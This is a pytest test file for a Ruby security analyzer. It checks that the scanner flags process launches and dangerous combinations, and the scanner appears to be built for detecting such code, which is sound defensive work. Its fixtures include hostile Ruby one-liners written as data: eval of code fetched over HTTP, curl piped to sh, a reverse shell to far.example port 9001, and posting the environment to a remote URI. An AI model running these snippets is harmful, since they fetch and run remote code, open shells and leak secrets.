"""What the Ruby analyzer reports."""

import pytest

from metier.scan.languages.scripts import commands, find


def rules(code: str) -> set[str]:
    return {hit.rule for hit in find(code, "ruby")}


@pytest.mark.parametrize(
    "code",
    [
        "system('ls')",
        "x = `ls`",
        "x = %x(ls)",
        "IO.popen('ls')",
        "Kernel.exec('ls')",
        "open('|ls')",
        "Open3.capture2('ls')",
        "exec 'ls'",
    ],
)
def test_every_way_to_start_a_program_is_seen(code: str) -> None:
    assert "SC470" in rules(code)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("eval(Net::HTTP.get(uri))", "SC472"),
        ("body = Net::HTTP.get(uri)\neval(body)", "SC472"),
        ("eval(Base64.decode64(x))", "SC473"),
        ("t = x.unpack('m')\neval t", "SC473"),
        ("`curl https://get.example/i | sh`", "SC472"),
        ("s = TCPSocket.new('far.example', 9001)\nexec '/bin/sh -i'", "SC478"),
        ("Net::HTTP.post(uri, ENV.to_h.to_json)", "SC477"),
    ],
)
def test_dangerous_combinations_are_critical(code: str, expected: str) -> None:
    assert expected in rules(code)


def test_comments_and_strings_are_no_code() -> None:
    code = "# system('ls')\n=begin\neval(x)\n=end\nputs 'eval(x)'\n"

    assert set() == rules(code)


def test_command_lines_are_handed_out_for_the_shell_analyzer() -> None:
    actual = [text for _, _, text in commands("system('ls -l')\nx = `id`", "ruby")]

    assert ["ls -l", "id"] == actual
